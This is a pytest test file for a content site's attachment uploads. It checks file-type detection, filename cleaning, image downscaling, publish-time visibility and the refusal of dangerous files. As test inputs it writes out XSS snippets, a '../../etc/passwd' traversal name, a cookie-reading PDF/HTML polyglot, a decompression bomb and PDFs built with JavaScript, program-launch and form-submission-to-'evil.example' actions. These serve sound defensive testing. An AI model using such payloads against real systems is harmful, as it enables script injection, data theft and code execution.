"""Attachments are checked by content, stored under generated names and served safely."""

import hashlib
import io
import resource
import zipfile
from contextlib import contextmanager
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import select

from app.extensions import db
from app.uploads.checks import UploadRejected, check_upload
from app.uploads.services import clean_filename
from tests.editing_helpers import edit_form, new_page, publish, signed_in_client
from tests.test_editing import tiny_pdf


def png(width=40, height=30, color=(200, 30, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), color).save(out, "PNG")
    return out.getvalue()


def docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "content_type"),
    [
        (tiny_pdf(), "application/pdf"),
        (png(), "image/png"),
        (docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (b"name,country\nUNDP,Viet Nam\n", "text/csv; charset=utf-8"),
    ],
    ids=["pdf", "png", "docx", "csv"],
)
def test_accepted_kinds(data, content_type):
    assert check_upload(data).content_type == content_type


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"<!doctype html><script>alert(1)</script>", "markup"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "markup"),
        (b"%PDF-1.4 this is not really a pdf", "could not be read"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "Old Office"),
        (b"\x89PNG\r\n\x1a\nbroken", "could not be read"),
        (b"", "empty"),
    ],
    ids=["html", "svg", "fake-pdf", "legacy-office", "broken-png", "empty"],
)
def test_refused_kinds_say_why(data, reason):
    with pytest.raises(UploadRejected, match=reason):
        check_upload(data)


def test_large_images_are_downscaled_and_re_encoded():
    checked = check_upload(png(4000, 3000))
    assert (checked.width, checked.height) == (1600, 1200)
    with Image.open(io.BytesIO(checked.data)) as image:
        assert image.size == (1600, 1200)


@pytest.mark.parametrize(
    ("name", "cleaned"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\ana\\Informe 2025 – Añasco.pdf", "Informe 2025 – Añasco.pdf"),
        ("bad\x00name\n.pdf", "badname.pdf"),
        ("", "file"),
    ],
)
def test_file_names_lose_their_folders_but_keep_their_script(name, cleaned):
    assert clean_filename(name) == cleaned


def upload(client, page_id, data, filename, alt_text=""):
    token = edit_form(client, page_id)["csrf_token"]
    return client.post(
        f"/manage/page/{page_id}/attachments",
        data={"csrf_token": token, "file": (io.BytesIO(data), filename), "alt_text": alt_text},
        content_type="multipart/form-data",
    )


@pytest.fixture
def editor(app, make_user):
    return signed_in_client(app, make_user("editor"))


def test_a_pdf_is_stored_with_its_hash_and_served_safely(app, client, editor):
    page_id = new_page(editor, publish=True)
    data = tiny_pdf()
    assert upload(editor, page_id, data, "Rapport annuel – 2025.pdf").status_code == 303
    publish(editor, page_id)

    page = editor.get(f"/manage/page/{page_id}/edit").get_data(as_text=True)
    assert hashlib.sha256(data).hexdigest() in page

    # Each file has one address, with its own name: another name leads there.
    with client.get("/files/1/x.pdf") as moved:
        assert moved.status_code == 301
        address = moved.headers["Location"]
    assert address.endswith("/files/1/Rapport%20annuel%20%E2%80%93%202025.pdf")
    with client.get(address) as response:
        assert response.data == data
        assert response.headers["Content-Type"] == "application/pdf"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert (
        "filename*=UTF-8''Rapport%20annuel%20%E2%80%93%202025.pdf"
        in (response.headers["Content-Disposition"])
    )
    stored = list(Path(app.config["UPLOAD_FOLDER"]).iterdir())
    assert len(stored) == 1 and "Rapport" not in stored[0].name


def test_an_image_needs_a_description(app, editor):
    page_id = new_page(editor)
    response = upload(editor, page_id, png(), "photo.png")
    assert response.status_code == 422
    assert "Describe the image" in response.get_data(as_text=True)
    assert (
        upload(editor, page_id, png(), "photo.png", alt_text="The delta at dawn").status_code == 303
    )


def test_a_renamed_html_file_is_refused_with_a_message(editor):
    page_id = new_page(editor)
    response = upload(editor, page_id, b"<html><script>alert(1)</script></html>", "report.pdf")
    assert response.status_code == 422
    assert "not accepted" in response.get_data(as_text=True)


def test_files_of_a_draft_are_not_public(client, editor):
    page_id = new_page(editor)
    upload(editor, page_id, tiny_pdf(), "draft.pdf")
    response = client.get("/files/1/draft.pdf")
    assert response.status_code == 404
    ok = editor.get("/files/1/draft.pdf")
    assert ok.status_code == 200
    ok.close()


@pytest.mark.parametrize("app_config", [{"UPLOAD_MAX_BYTES": 1000}])
def test_the_size_limit_is_configurable_and_explained(editor, app_config):
    page_id = new_page(editor)
    response = upload(editor, page_id, tiny_pdf() + b"\n%" + b"x" * 2000, "big.pdf")
    assert response.status_code == 422
    assert "This file is larger than 1 KB" in response.get_data(as_text=True)


def test_a_decompression_bomb_image_is_refused_before_it_is_decoded():
    # 10,000 x 10,000 pixels of one colour: a few hundred kilobytes that would take 300 MB.
    out = io.BytesIO()
    Image.new("RGB", (10_000, 10_000), (0, 0, 0)).save(out, "PNG")
    assert len(out.getvalue()) < 1_000_000
    with pytest.raises(UploadRejected, match="too many pixels"):
        check_upload(out.getvalue())


def test_a_pdf_with_html_inside_is_only_ever_served_as_a_sandboxed_pdf(client, editor):
    polyglot = tiny_pdf() + b"\n<html><body><script>alert(document.cookie)</script></body></html>\n"
    page_id = new_page(editor, publish=True)
    assert upload(editor, page_id, polyglot, "report.html").status_code == 303
    publish(editor, page_id)
    with client.get("/files/1/report.pdf") as response:
        assert response.headers["Content-Type"] == "application/pdf"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        assert "sandbox" in response.headers["Content-Security-Policy"]
        assert 'filename="report.pdf"' in response.headers["Content-Disposition"]


def test_a_pdf_that_runs_javascript_when_opened_is_refused():
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )
    out = io.BytesIO()
    writer.write(out)
    with pytest.raises(UploadRejected, match=r"JavaScript \(when the document opens\)"):
        check_upload(out.getvalue())


def action(kind: str, **entries):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    found = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        found[NameObject(f"/{key}")] = TextStringObject(value)
    return found


def pdf_with(change) -> bytes:
    """A one-page PDF that ``change(writer, page)`` has given something."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    change(writer, page)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def annotated(subtype: str, **entries):
    """A ``change`` giving the page one annotation with these entries."""
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject

    def change(writer, page):
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject(subtype),
                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 90, 40)]),
            }
        )
        for key, value in entries.items():
            annotation[NameObject(f"/{key}")] = value
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return change


def page_opening_script(writer, page):
    from pypdf.generic import DictionaryObject, NameObject

    page[NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/JavaScript", JS="app.alert(1)")}
    )


def widget_script():
    from pypdf.generic import DictionaryObject, NameObject

    return annotated(
        "/Widget", AA=DictionaryObject({NameObject("/D"): action("/JavaScript", JS="this.x()")})
    )


def named_script(writer, page):
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    scripts = ArrayObject([TextStringObject("init"), action("/JavaScript", JS="app.alert(1)")])
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): scripts})}
    )


def xfa_form(writer, page):
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject

    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): ArrayObject()}
    )


ACTIVE_PDFS = [
    ("page-open-script", page_opening_script, "JavaScript (on page 1)"),
    ("link-script", annotated("/Link", A=action("/JavaScript", JS="app.alert(1)")), "JavaScript"),
    ("widget-script", widget_script(), "JavaScript (on page 1)"),
    ("launch", annotated("/Link", A=action("/Launch", F="calc.exe")), "starts a program"),
    ("submit-form", annotated("/Link", A=action("/SubmitForm", F="https://evil.example/")),
     "sends data"),
    ("import-data", annotated("/Link", A=action("/ImportData", F="data.fdf")), "imports data"),
    ("remote-goto", annotated("/Link", A=action("/GoToR", F="other.pdf")), "opens another file"),
    ("names-script", named_script, "JavaScript (when the document opens)"),
    ("embedded-file", lambda writer, page: writer.add_attachment("x.exe", b"MZ"),
     "embedded files"),
    ("xfa", xfa_form, "XFA form"),
]  # fmt: skip


def test_pdfs_with_active_content_anywhere_are_refused_saying_what_was_found(app, editor):
    page_id = new_page(editor)
    for name, change, found in ACTIVE_PDFS:
        response = upload(editor, page_id, pdf_with(change), f"{name}.pdf")
        text = response.get_data(as_text=True)
        assert response.status_code == 422, name
        assert "active content are not accepted" in text and found in text, name
    assert not any(Path(app.config["UPLOAD_FOLDER"]).glob("*")), "nothing is stored"

    web_link = annotated("/Link", A=action("/URI", URI="https://example.org/"))
    assert upload(editor, page_id, pdf_with(web_link), "links.pdf").status_code == 303


@contextmanager
def files_limited_to(size: int):
    """Writing past ``size`` bytes of any file fails, as on a full disk (RLIMIT_FSIZE)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, hard))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))


def test_an_upload_that_finds_no_room_leaves_nothing_behind_and_keeps_the_input(app, editor):
    from app.uploads.models import Attachment

    page_id = new_page(editor)
    large = tiny_pdf() + b"\n%" + b"x" * 200_000
    with files_limited_to(100_000):
        response = upload(editor, page_id, large, "survey.pdf", alt_text="Our survey, 2025")
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "no room left to store files" in page
    assert 'value="Our survey, 2025"' in page
    assert list(Path(app.config["UPLOAD_FOLDER"]).iterdir()) == []  # no .part, no half file
    with app.app_context():
        assert db.session.scalars(select(Attachment)).all() == []


def report_with_a_file(app, editor, name="annual.pdf"):
    """A published report, and the address of a file an editor then attached to it."""
    from tests.transparency_helpers import make_report

    with app.app_context():
        report_id = make_report("annual-2024", "Annual report 2024")
    token = edit_form_of(editor, "report", report_id)["csrf_token"]
    response = editor.post(
        f"/manage/report/{report_id}/attachments",
        data={"csrf_token": token, "file": (io.BytesIO(tiny_pdf()), name)},
        content_type="multipart/form-data",
    )
    assert response.status_code == 303
    return report_id, f"/files/1/{name}"


def edit_form_of(client, record_type, record_id):
    from tests.editing_helpers import form_fields

    return form_fields(client.get(f"/manage/{record_type}/{record_id}/edit"))


def post_to(client, record_type, record_id, action):
    token = edit_form_of(client, record_type, record_id)["csrf_token"]
    response = client.post(
        f"/manage/{record_type}/{record_id}/{action}", data={"csrf_token": token}
    )
    assert response.status_code == 303, response.get_data(as_text=True)


def seen_by_the_public(client, file_url) -> dict[str, bool]:
    """Where the public finds the file: its address, the report's page, the data file,
    and the static export's list of what to copy."""
    from app.export.registry import iter_public_urls

    with client.get(file_url) as download:
        address = download.status_code == 200
    with client.application.test_request_context():
        exported = [url.path for url in iter_public_urls(client.application)]
    return {
        "address": address,
        "page": file_url in client.get("/reports/annual-2024/").get_data(as_text=True),
        "data": file_url in client.get("/data/reports.json").get_data(as_text=True),
        "export": file_url in exported,
    }


NOWHERE = {"address": False, "page": False, "data": False, "export": False}
EVERYWHERE = {"address": True, "page": True, "data": True, "export": True}


def test_a_file_added_to_a_published_record_is_public_only_once_published(app, client, editor):
    report_id, file_url = report_with_a_file(app, editor)

    assert seen_by_the_public(client, file_url) == NOWHERE
    draft = editor.get(f"/manage/report/{report_id}/edit").get_data(as_text=True)
    assert file_url in draft and "Not public until you publish" in draft
    with editor.get(file_url) as preview:
        assert preview.status_code == 200

    post_to(editor, "report", report_id, "publish")
    assert seen_by_the_public(client, file_url) == EVERYWHERE


def test_removing_a_file_takes_it_off_the_public_side_at_the_next_publish_and_keeps_it(
    app, client, editor
):
    report_id, file_url = report_with_a_file(app, editor)
    post_to(editor, "report", report_id, "publish")

    post_to(editor, "report", report_id, "attachments/1/delete")
    assert seen_by_the_public(client, file_url) == EVERYWHERE
    post_to(editor, "report", report_id, "publish")
    assert seen_by_the_public(client, file_url) == NOWHERE

    # Nothing was deleted: editors still open it, and bring it back from the removed files.
    assert len(list(Path(app.config["UPLOAD_FOLDER"]).iterdir())) == 1
    with editor.get(file_url) as kept:
        assert kept.status_code == 200
    page = editor.get(f"/manage/report/{report_id}/edit").get_data(as_text=True)
    assert "Removed files" in page and "Bring back" in page
    post_to(editor, "report", report_id, "attachments/1/restore")
    assert seen_by_the_public(client, file_url) == NOWHERE
    post_to(editor, "report", report_id, "publish")
    assert seen_by_the_public(client, file_url) == EVERYWHERE


def test_restoring_an_older_version_brings_back_its_files(app, client, editor):
    from app.editing.models import Revision

    report_id, file_url = report_with_a_file(app, editor)
    post_to(editor, "report", report_id, "attachments/1/delete")
    with app.app_context():
        with_file = db.session.scalars(
            select(Revision.id).where(Revision.note == "Attached annual.pdf")
        ).one()
    post_to(editor, "report", report_id, f"restore/{with_file}")
    post_to(editor, "report", report_id, "publish")
    assert seen_by_the_public(client, file_url) == EVERYWHERE
